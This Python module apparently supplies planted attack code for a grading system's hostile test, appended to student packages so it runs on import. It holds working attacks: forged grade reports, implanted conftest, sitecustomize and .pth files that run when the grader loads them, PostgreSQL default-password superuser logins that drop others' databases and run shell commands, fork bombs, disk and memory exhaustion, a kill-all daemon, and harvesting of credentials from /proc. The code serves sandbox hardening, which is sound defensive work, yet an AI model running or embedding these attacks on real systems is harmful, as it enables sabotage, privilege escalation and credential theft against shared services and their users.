"""The planted code of the hostile class test (test_grade_attacks.py): one attack per learner.

Each attacker hands in the reference solution with this code appended to its package's __init__.py, so
it runs in every learner process the judge starts (the harness, the learner's commands). The attacker
knows the layout (white-box): the folders to aim at come in `TARGETS`, never the secrets themselves.
Whatever it achieves it says on stderr and in every text its app answers, so a failing check carries it
into the grader's outputs, where the test looks for it from outside.
"""

from __future__ import annotations

import json

PRELUDE = '''

# ===== planted by the hostile class test: attack {kind!r} =====
import glob as _glob
import json as _json
import os as _os
import re as _re
import sys as _sys
import threading as _threading
import time as _time
import warnings as _warnings

_KIND = {kind!r}
_TARGETS = _json.loads({targets!r})
_FOUND = []
_PAYLOAD = (
    "import os as _o\\n"
    "if _o.geteuid() == {grader_uid} and _o.path.isdir({grader_sees!r}):\\n"
    "    open({pwned!r}, 'a').write('loaded by the grader\\\\n')\\n"
)


def _say(line):
    """What the attack achieved: to stderr (the learner's log) and into every answer of the app."""
    line = str(line)[:300]
    _FOUND.append(line)
    try:
        _os.write(2, ("ATTACK-REPORT " + _KIND + ": " + line + "\\n").encode())
    except OSError:
        pass


def _first_time(name):
    """True once per run: HOME is the run's own folder."""
    try:
        _os.close(_os.open(_os.path.join(_os.environ.get("HOME", "/nonexistent"), ".attack-" + name),
                           _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _fork():
    with _warnings.catch_warnings():
        _warnings.simplefilter("ignore")
        return _os.fork()


def _background(function):
    def body():
        try:
            function()
        except BaseException as exc:
            _say(f"{{function.__name__}} stopped: {{type(exc).__name__}}: {{exc}}")
    _threading.Thread(target=body, daemon=True).start()


def _walk(roots, limit=20000):
    """Every path below `roots` that this uid may list, at most `limit`."""
    seen = 0
    for root in roots:
        for folder, dirs, files in _os.walk(root):
            for name in dirs + files:
                seen += 1
                if seen > limit:
                    return
                yield _os.path.join(folder, name)


def _read(path, limit=1 << 20):
    with open(path, "rb") as handle:
        return handle.read(limit)


def _real(path):
    """Whether `path` lies on the file system the grader's workspace is on (this package is bound from
    it; HOME is not, it is in memory): in bubblewrap, a write to /tmp or HOME stays in the sandbox."""
    try:
        folder = path if _os.path.isdir(path) else _os.path.dirname(path)
        return _os.stat(folder).st_dev == _os.stat(__file__).st_dev
    except (OSError, NameError):
        return False


def _claim(line, path):
    """A write outside its own folders: in capitals when it landed where the grader could see it."""
    _say(line if _real(path) else line.lower() + " (its private tmpfs)")


def _workspaces():
    return _glob.glob("/tmp/workbook-grade-*") + _glob.glob("/var/tmp/workbook-grade-*")


try:
    from aiohttp import web as _web

    _original_response = _web.Response.__init__

    def _leaky_response(self, *args, **kwargs):
        if _FOUND and isinstance(kwargs.get("text"), str):
            found = "ATTACK-REPORT " + _KIND + ": " + " | ".join(_FOUND[-12:])
            kwargs["text"] = kwargs["text"] + "\\n" + found
            try:  # the log too, so the check this answer fails shows it even when the body is cut
                _os.write(2, (found + "\\n").encode())
            except OSError:
                pass
        _original_response(self, *args, **kwargs)

    _web.Response.__init__ = _leaky_response
except Exception:
    pass

_CREDENTIALS = []  # the learner role's connection settings, caught when the app connects

try:
    import psycopg2 as _pg

    _original_connect = _pg.connect

    def _spy_connect(*args, **kwargs):
        _CREDENTIALS.append((args, {{k: v for k, v in kwargs.items() if k not in ("async_", "async")}}))
        return _original_connect(*args, **kwargs)

    _pg.connect = _spy_connect
except Exception:
    pass
'''

# --- 1. forging from inside the package --------------------------------------------------------------------
FORGE = """
def _forge():
    forged = {{"tests": [], "summary": {{"passed": 99}}, "points": 999}}
    for entry in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            argv = _read(entry).split(b"\\0")
        except OSError:
            continue
        if b"--workbook-report" in argv:
            report = argv[argv.index(b"--workbook-report") + 1].decode()
            _say(f"found the report path {{report}} in {{entry}}")
    tried = wrote = 0
    workdir = _os.path.abspath(_os.path.join(_os.getcwd(), "..", "..", ".."))
    own = (_os.environ.get("HOME", "//"), _os.environ.get("TMPDIR", "//"), _os.path.join(workdir, "spool"))
    for workspace in _workspaces():
        guessed = [f"{{workspace}}/learner-{{n:04d}}/step{{s}}{{j}}" for n in range(20) for s in (1, 5)
                   for j in ("", "/judge")]
        for learner in _glob.glob(workspace + "/learner-*/step*") + guessed:
            passed = '{{"nodeid": "x", "when": "call", "outcome": "passed"}}\\n'
            for name, text in (("report.json", _json.dumps(forged)), ("progress.jsonl", passed)):
                tried += 1
                try:
                    with open(_os.path.join(learner, name), "a") as handle:
                        handle.write(text)
                    wrote += 1
                    _claim(f"FORGED {{learner}}/{{name}}", learner)
                except OSError:
                    pass
        for path in _walk([workspace, workdir, *guessed]):
            if path.startswith(own):
                continue
            if _os.path.isdir(path) and not _os.path.islink(path):
                try:
                    with open(_os.path.join(path, "planted-by-attacker.py"), "x") as handle:
                        handle.write(_PAYLOAD)
                    wrote += 1
                    _claim(f"WROTE a file into {{path}}", path)
                except OSError:
                    pass
            elif _os.path.isfile(path) and not _os.path.islink(path):
                tried += 1
                try:
                    with open(path, "a") as handle:
                        if path.endswith(".py"):
                            handle.write("\\n" + _PAYLOAD)
                    wrote += 1
                    _claim(f"WROTE {{path}}", path)
                except OSError:
                    pass
    _say(f"forge: {{wrote}} of {{tried}} writes outside its folders succeeded")


if _first_time("forge"):
    _forge()
"""

# --- 2. superuser login and sabotage ------------------------------------------------------------------------
PG_SUPER = '''
def _listening_ports():
    ports = {{5432, 5433, 5434}}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in _read(table).decode().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except (OSError, IndexError, ValueError):
            pass
    return sorted(ports)


def _places():
    """(host, port) pairs where a PostgreSQL server might answer: socket folders and loopback ports."""
    places = []
    for sock in _glob.glob("/tmp/workbook-grade-*/postgres/.s.PGSQL.*") + _glob.glob(
        "/var/run/postgresql/.s.PGSQL.*"
    ) + _glob.glob("/tmp/.s.PGSQL.*") + _glob.glob("/dev/shm/workbook-clusters-*/cluster-*/run/.s.PGSQL.*"):
        if not sock.endswith(".lock"):
            places.append((_os.path.dirname(sock), int(sock.rsplit(".", 1)[1])))
    for args, kwargs in _CREDENTIALS:
        if kwargs.get("host"):
            places.append((kwargs["host"], int(kwargs.get("port") or 5432)))
    places += [("127.0.0.1", port) for port in _listening_ports()]
    return list(dict.fromkeys(places))


def _sabotage(conn, who):
    conn.autocommit = True
    cur = conn.cursor()
    for statement in (
        "ALTER ROLE CURRENT_USER SUPERUSER",
        "CREATE ROLE attacker_evil LOGIN SUPERUSER PASSWORD 'x'",
        "SELECT pg_read_file('pg_hba.conf')",
        "COPY (SELECT 1) TO PROGRAM 'id'",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
    ):
        try:
            cur.execute(statement)
            _say(f"AS {{who}} SUCCEEDED: {{statement}}")
        except Exception as exc:
            _say(f"as {{who}} refused: {{statement.split()[0]}} ({{str(exc).splitlines()[0][:80]}})")
    try:
        cur.execute(  # others' databases: its own it may drop, as the suites' fixtures do
            "SELECT datname FROM pg_database d JOIN pg_roles r ON d.datdba = r.oid"
            " WHERE NOT datistemplate AND r.rolname <> current_user"
        )
        databases = [row[0] for row in cur.fetchall()]
        cur.execute("SELECT rolname FROM pg_roles WHERE rolname LIKE 'wb_grade%' AND rolname <> current_user")
        roles = [row[0] for row in cur.fetchall()]
    except Exception as exc:
        _say(f"as {{who}}: cannot list: {{exc}}")
        return
    _say(f"as {{who}} sees {{len(databases)}} others' databases and {{len(roles)}} other learner roles")
    for name in databases:
        try:
            cur.execute(f'DROP DATABASE "{{name}}" WITH (FORCE)')
            _say(f"AS {{who}} DROPPED a database that is not its own: {{name}}")
        except Exception:
            pass
    for role in roles:
        for statement in (f'ALTER ROLE "{{role}}" NOLOGIN', f'ALTER ROLE "{{role}}" PASSWORD \\'x\\'',
                          f'DROP ROLE "{{role}}"'):
            try:
                cur.execute(statement)
                _say(f"AS {{who}} SUCCEEDED: {{statement}}")
            except Exception:
                pass


def _pg_attack():
    import psycopg2
    logged_in = 0
    for host, port in _places():
        for password in (None, "", "postgres", "password", "root", "admin"):
            try:
                conn = _original_connect(host=host, port=port, user="postgres", dbname="postgres",
                                         password=password, connect_timeout=3)
            except psycopg2.Error:
                continue
            logged_in += 1
            _say(f"LOGGED IN AS postgres at {{host}}:{{port}} with password {{password!r}}")
            _sabotage(conn, "postgres")
            conn.close()
    _say(f"superuser logins: {{logged_in}} (tried {{len(_places())}} places)")
    deadline = _time.monotonic() + 20
    while not _CREDENTIALS and _time.monotonic() < deadline:
        _time.sleep(0.2)
    if not _CREDENTIALS:
        _say("never saw the learner role's credentials")
        return
    args, kwargs = _CREDENTIALS[0]
    conn = _original_connect(*args, **kwargs)
    _sabotage(conn, "its own role")
    conn.close()


if _first_time("pg"):
    _background(_pg_attack)
'''

# --- 3. connection exhaustion -------------------------------------------------------------------------------
EXHAUST = """
def _exhaust():
    import psycopg2
    if not _wait_for_credentials():
        return
    args, kwargs = _CREDENTIALS[0]
    held = []
    for _ in range(400):
        try:
            held.append(_original_connect(*args, **kwargs))
        except psycopg2.Error as exc:
            _say(f"connection {{len(held) + 1}} refused: {{str(exc).splitlines()[0][:100]}}")
            break
    _say(f"holding {{len(held)}} connections")
    _time.sleep(120)


if _first_time("exhaust"):
    _background(_exhaust)
"""

# --- 5. a surviving background process ----------------------------------------------------------------------
DAEMON = """
def _daemon():
    import signal
    import socket
    _time.sleep(4)
    for _ in range(40):
        try:
            _os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for folder in _TARGETS["outputs"]:
            try:
                with open(_os.path.join(folder, "gradebook.csv"), "w") as handle:
                    handle.write("learner,total\\ndaemon,999\\n")
            except OSError:
                pass
        try:
            with open("/tmp/workbook-attack-daemon-" + str(_os.getuid()), "a") as handle:
                handle.write("alive\\n")
        except OSError:
            pass
        try:
            sock = socket.socket()
            sock.bind(("127.0.0.1", 8080))
            sock.listen()
        except OSError:
            pass
        _time.sleep(1.5)


if _first_time("daemon"):
    if _fork() == 0:
        _os.setsid()
        if _fork() == 0:
            try:
                _daemon()
            finally:
                _os._exit(0)
        _os._exit(0)
    _say("a daemon was started (double fork, setsid)")
"""

# --- 6. malformed and FIFO report files ---------------------------------------------------------------------
MALFORMED = """
def _malformed():
    planted = 0
    for entry in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            argv = _read(entry).split(b"\\0")
        except OSError:
            continue
        if b"--folder" in argv:
            folder = argv[argv.index(b"--folder") + 1].decode()
            for n in range(1, 40):
                log = f"command-{{n}}.log"
                for name, content in ((log, None), (log + ".status", "[" * 100000)):
                    path = _os.path.join(folder, name)
                    try:
                        if content is None:
                            _os.mkfifo(path)
                        else:
                            with open(path, "x") as handle:
                                handle.write(content)
                        planted += 1
                    except OSError:
                        pass
    workdir = _os.path.abspath(_os.path.join(_os.getcwd(), "..", "..", ".."))
    for workspace in [workdir, workdir + "/judge"] + _glob.glob("/tmp/workbook-grade-*/learner-*/step*"):
        for name in ("report.json", "progress.jsonl"):
            path = _os.path.join(workspace, name)
            try:
                _os.mkfifo(path)
                _claim(f"PLANTED A FIFO at {{path}}", path)
            except OSError:
                pass
            try:
                with open(path, "w") as handle:
                    wrong = '{{"nodeid": 5, "outcome": []}}\\n'
                    handle.write("[" * 200000 if name == "report.json" else wrong)
                _claim(f"WROTE a malformed {{path}}", path)
            except OSError:
                pass
    _say(f"planted {{planted}} FIFOs and malformed status files in its launcher's folder")


_imports = len(_glob.glob(_os.path.join(_os.environ.get("HOME", "/nonexistent"), ".attack-malformed*")))
if _first_time(f"malformed{{_imports}}"):
    if _imports == 0:
        _malformed()
        _os.write(1, b"[" * 100000 + b"\\n")  # the harness's reply pipe: nesting deeper than any parser's
    elif _imports == 1:
        _os.write(1, b'{{"id": 1, "ok": {{"imported": 5, "failed": []}}}}\\n')  # the right id, wrong types
    elif _imports == 2:
        _os.write(1, b'{{"id": 1, "error": {{"type": 1, "name": ["x"], "message": {{}}}}}}\\n')
    elif _imports == 3:
        _os.write(1, b"x" * (2 << 20))  # more than a reply may be, and no newline
"""

# --- 7. reading what is not its own -------------------------------------------------------------------------
SNOOP = """
def _guessed(workspace):
    # Classmates' folders by the names the grader gives them: a workspace others may only traverse
    # cannot be listed, but a path known in advance can still be opened if what it names is not private.
    found = []
    for n in range(12):
        found += list(_walk([f"{{workspace}}/unpacked-{{n:04d}}"], 2000))
        for s in (1, 5):
            unit = f"{{workspace}}/learner-{{n:04d}}/step{{s}}"
            found += [unit + "/judge/report.json", unit + "/judge/progress.jsonl", unit + "/report.json"]
            found += list(_walk([unit + "/sandbox/steps"], 500))
    return found


def _snoop_paths():
    paths = list(_TARGETS["read"])
    for folder in _TARGETS["list"]:
        paths += list(_walk([folder], 3000))
    for workspace in _workspaces():
        paths += _glob.glob(workspace + "/learner-*/step*/sandbox/steps/step*/**", recursive=True)
        paths += _glob.glob(workspace + "/learner-*/step*/sandbox/tests/*")
        paths += _glob.glob(workspace + "/instructor/**", recursive=True)[:3000]
        paths += _glob.glob(workspace + "/unpacked-*/**", recursive=True)[:3000]
        paths += _guessed(workspace)
    return paths


def _poll_classmates():
    # As long as this process lives, keep opening classmates' predictable paths: a folder that is made
    # open and narrowed later (or unpacked before it is closed) is read in that window.
    pattern = _re.compile(rb"CANARY-[0-9a-f]{{8,}}")
    told = set()
    for _ in range(600):
        for workspace in _workspaces():
            for path in _guessed(workspace):
                try:
                    data = _read(path, 1 << 16)
                except OSError:
                    continue
                for match in pattern.findall(data):
                    if match not in told:
                        told.add(match)
                        _say(f"LEAKED {{match.decode()}} from {{path}} while polling")
        _time.sleep(0.1)


def _snoop():
    pattern = _re.compile(rb"CANARY-[0-9a-f]{{8,}}")
    readable, secrets = [], set()
    paths = _snoop_paths()
    paths += _glob.glob("/proc/[0-9]*/environ") + _glob.glob("/proc/[0-9]*/cmdline")
    for path in paths:
        try:
            if _os.path.isdir(path):
                _os.listdir(path)
                continue
            data = _read(path)
        except OSError:
            continue
        if not path.startswith("/proc/self") and not path.startswith(_os.environ.get("HOME", "//")):
            readable.append(path)
        secrets.update(match.decode() for match in pattern.findall(data))
        for name in (b"WORKBOOK_PG_DSN=", b"INSTRUCTOR_CANARY=", b"password"):
            if name in data and "/proc/" in path and not path.startswith("/proc/self"):
                _say(f"found {{name.decode()}} in {{path}}")
    shown = [p for p in readable if not p.startswith("/proc/")]
    _say(f"could read {{len(shown)}} of {{len(paths)}} paths aimed at, e.g. {{shown[:8]}}")
    _say(f"{{len([p for p in readable if p.startswith('/proc/')])}} /proc files of other processes")
    for secret in sorted(secrets):
        _say(f"LEAKED {{secret}}")
    _say(f"found {{len(secrets)}} canaries; DSN in its environment: {{'WORKBOOK_PG_DSN' in _os.environ}}")


if _first_time("snoop"):
    _snoop()
    _background(_poll_classmates)
"""

# --- 8. files where the judge would load them ---------------------------------------------------------------
PLANT = """
def _plant():
    import site
    here = _os.getcwd()
    folders = [here, _os.path.dirname(here), _os.path.dirname(_os.path.dirname(here))]
    sandbox = _os.path.dirname(_os.path.dirname(here))
    folders += [_os.path.join(sandbox, "tests"), _os.path.join(sandbox, "tests", _os.path.basename(here)),
                _os.path.join(sandbox, "workbook"), _os.path.join(sandbox, "workbook", "__pycache__"),
                _os.path.join(sandbox, "workbook", "grading")]
    folders += [p for p in _sys.path if p] + site.getsitepackages() + [site.getusersitepackages()]
    folders += [_os.path.dirname(_os.path.abspath(_sys.executable))]
    planted = []
    for folder in dict.fromkeys(folders):
        for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "pytest_attacker.py",
                     "attacker.pth", "__pycache__/conftest.cpython-311.pyc"):
            path = _os.path.join(folder, name)
            text = ("import os; exec(" + repr(_PAYLOAD) + ")\\n") if name.endswith(".pth") else _PAYLOAD
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with open(path, "x") as handle:
                    handle.write(text)
                planted.append(path)
            except OSError:
                pass
    for pyc in _glob.glob(_os.path.join(sandbox, "workbook", "**", "*.pyc"), recursive=True)[:200]:
        try:
            with open(pyc, "r+b") as handle:
                handle.seek(0, 2)
            planted.append(pyc)
        except OSError:
            pass
    mine = (here, _os.environ.get("HOME", "//"))
    outside = [p for p in planted if not p.startswith(mine)]
    _say(f"planted {{len(planted)}} files, outside its own tree and HOME: {{outside[:6]}}")
    for path in outside:
        if _real(path):
            _say(f"PLANTED A FILE where the judge may load it: {{path}}")


if _first_time("plant"):
    _plant()
"""

# --- 9. a planted cluster folder ----------------------------------------------------------------------------
CLUSTER = """
def _cluster():
    victims = [1, _os.getppid(), *_TARGETS["decoys"]]
    planted = []
    bases = ["/tmp", "/dev/shm", "/var/tmp", _os.environ.get("TMPDIR", "/tmp")]
    for base in bases:
        for name in (f"workbook-clusters-{{_os.geteuid()}}", "workbook-clusters-0", "workbook-pg-planted"):
            for victim in victims:
                folder = _os.path.join(base, name, f"cluster-planted{{victim}}")
                try:
                    _os.makedirs(_os.path.join(folder, "data"), exist_ok=True)
                    with open(_os.path.join(folder, "owner.json"), "w") as handle:
                        _json.dump({{"pid": 999999, "start": "0", "run_uid": 0, "uid": 0}}, handle)
                    with open(_os.path.join(folder, "data", "postmaster.pid"), "w") as handle:
                        handle.write(f"{{victim}}\\n{{folder}}/data\\n0\\n5432\\n\\n\\n\\nready\\n")
                    planted.append(folder)
                except OSError:
                    pass
    _say(f"planted {{len(planted)}} cluster folders naming pids {{victims}}: {{planted[:4]}}")


if _first_time("cluster"):
    _cluster()
"""

# --- 10. resources ------------------------------------------------------------------------------------------
RESOURCES = """
def _resources():
    files = []
    try:
        while len(files) < 5000:
            files.append(open("/dev/null"))
    except OSError as exc:
        _say(f"open files stopped at {{len(files)}}: {{exc.strerror}}")
    for handle in files:
        handle.close()
    children = 0
    try:
        for _ in range(600):
            if _fork() == 0:
                _time.sleep(30)
                _os._exit(0)
            children += 1
    except OSError as exc:
        _say(f"fork storm stopped at {{children}} children: {{exc.strerror}}")
    hog = []
    try:
        for _ in range(16):
            hog.append(bytearray(256 << 20))
    except MemoryError:
        pass
    _say(f"memory hog got {{len(hog) * 256}} MB")
    del hog
    written = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", *(_os.environ.get(n, "") for n in ("HOME", "TMPDIR"))):
        for n in range(8):  # 512 MB a folder, 2 GB in all: the test machine survives a failed defence
            if written >= (2 << 30):
                break
            try:
                with open(_os.path.join(folder, f"filler-{{n}}"), "wb") as handle:
                    for _ in range(8):
                        handle.write(b"x" * (8 << 20))
                        written += 8 << 20
            except OSError as exc:
                _say(f"disk filler stopped in {{folder}} after {{written >> 20}} MB in all: {{exc.strerror}}")
                break
    _say(f"disk filler wrote {{written >> 20}} MB")
    end = _time.monotonic() + 8
    lines = 0
    while _time.monotonic() < end:
        try:
            _os.write(2, b"endless output " * 1000 + b"\\n")
            lines += 1
        except OSError as exc:
            _say(f"endless output stopped after {{lines}} lines: {{exc.strerror}}")
            break


if _first_time("resources"):
    _background(_resources)
"""

# --- 10. a connection held on template1 (issue 20) ---------------------------------------------------------
# While any session is connected to template1, every CREATE DATABASE that copies it fails: one connection
# held there would fail each classmate's database fixtures.
_ROLE_CONNECT = """
def _as_role(dbname):
    \"\"\"A connection of the learner's own role to `dbname`, from the credentials its app used.\"\"\"
    args, kwargs = _CREDENTIALS[0]
    kwargs = {{k: v for k, v in kwargs.items() if k not in ("database", "dbname")}}
    return _original_connect(*args, **kwargs, dbname=dbname, connect_timeout=3)


def _wait_for_credentials():
    deadline = _time.monotonic() + 30
    while not _CREDENTIALS and _time.monotonic() < deadline:
        _time.sleep(0.1)
    if not _CREDENTIALS:
        _say("never saw the learner role's credentials")
    return bool(_CREDENTIALS)
"""

TEMPLATE1 = """
def _hold_template1():
    import psycopg2
    if not _wait_for_credentials():
        return
    held, refused, deadline = [], set(), _time.monotonic() + 100
    while _time.monotonic() < deadline:  # the whole step long, in case a moment lets it in
        for name in ("template1", "template0"):
            try:
                held.append(_as_role(name))
                _say(f"SUCCEEDED: holds a connection to {{name}} (classmates' CREATE DATABASE fails)")
            except psycopg2.Error as exc:
                if name not in refused:
                    refused.add(name)
                    _say(f"refused on {{name}}: {{' '.join(str(exc).split())[-120:]}}")
        _time.sleep(0.2)


if _first_time("template1"):
    _background(_hold_template1)
"""

# --- 11. classmates' databases: whatever pg_database lists, connected to and read (issue 20) ----------------
PROWL = """
def _prowl():
    import psycopg2
    if not _wait_for_credentials():
        return
    try:
        own = _as_role(_CREDENTIALS[0][1].get("database") or _CREDENTIALS[0][1].get("dbname") or "postgres")
    except psycopg2.Error as exc:
        _say(f"cannot connect to its own database: {{exc}}")
        return
    own.autocommit = True
    held, tried, deadline, passes = [], set(), _time.monotonic() + 100, 0
    while _time.monotonic() < deadline:
        passes += 1
        if passes == 20:
            _say(f"prowl: refused on {{len(tried)}} databases of others so far")
        cur = own.cursor()
        # Its own admin database (named after it, where it runs CREATE DATABASE) is the grader's and open
        # to it alone; the cluster's (postgres) and the classmates' are tried like every other.
        cur.execute(
            "SELECT d.datname FROM pg_database d JOIN pg_roles r ON d.datdba = r.oid"
            " WHERE r.rolname <> current_user AND d.datname <> current_user"
        )
        for (name,) in cur.fetchall():
            try:
                conn = _as_role(name)
            except psycopg2.Error:
                tried.add(name)
                continue
            held.append(conn)
            _say(f"SUCCEEDED: connected to {{name}}, a database that is not its own")
            try:
                read = conn.cursor()
                read.execute("SELECT count(*) FROM question")
                _say(f"LEAKED {{read.fetchone()[0]}} questions of {{name}}")
            except psycopg2.Error:
                pass
        _time.sleep(0.1)
    _say(f"prowl: refused on {{len(tried)}} databases of others")


if _first_time("prowl"):
    _background(_prowl)
"""

# --- 12. a database that grows without end ------------------------------------------------------------------
FILL = """
def _fill():
    import psycopg2
    if not _wait_for_credentials():
        return
    args, kwargs = _CREDENTIALS[0]
    written = 0
    try:
        conn = _original_connect(*args, **kwargs)
        conn.autocommit = True
        cur = conn.cursor()
        cur.execute("SET statement_timeout = 0")
        try:
            cur.execute("CREATE TABLE IF NOT EXISTS filler_of_the_attacker (x text)")
            table = "filler_of_the_attacker"
        except psycopg2.Error:
            cur.execute("CREATE SCHEMA IF NOT EXISTS attacker; CREATE TABLE attacker.filler (x text)")
            table = "attacker.filler"
        rows = "SELECT repeat('x', 1000) FROM generate_series(1, 20000)"
        for _ in range(50):  # 20 MB a statement, 1 GB at most: the test machine survives a failed defence
            cur.execute(f"INSERT INTO {{table}} {{rows}}")
            written += 20
        _say(f"WROTE {{written}} MB into its database and was never stopped")
    except psycopg2.Error as exc:
        _say(f"filler stopped after {{written}} MB: {{str(exc).splitlines()[0][:120]}}")


if _first_time("fill"):
    _background(_fill)
"""

ATTACKS = {
    "forge": FORGE,
    "pg-super": PG_SUPER,
    "exhaust": _ROLE_CONNECT + EXHAUST,
    "fill": _ROLE_CONNECT + FILL,
    "daemon": DAEMON,
    "malformed": MALFORMED,
    "snoop": SNOOP,
    "plant": PLANT,
    "cluster": CLUSTER,
    "resources": RESOURCES,
    "template1": _ROLE_CONNECT + TEMPLATE1,
    "prowl": _ROLE_CONNECT + PROWL,
}


def planted_code(kind: str, targets: dict[str, list], pwned: str, grader_uid: int, grader_sees: str) -> str:
    """The code appended to an attacker's __init__.py: the shared prelude, then its one attack. Its payload
    writes `pwned` when it runs as the grader's uid where `grader_sees` is in view: loaded by the grader's
    side, not in a learner's sandbox (at the bwrap tier the learner shares the grader's uid)."""
    fill = {"kind": kind, "targets": json.dumps(targets), "pwned": pwned, "grader_uid": grader_uid,
            "grader_sees": grader_sees}  # fmt: skip
    return PRELUDE.format(**fill) + ATTACKS[kind].format(**fill)
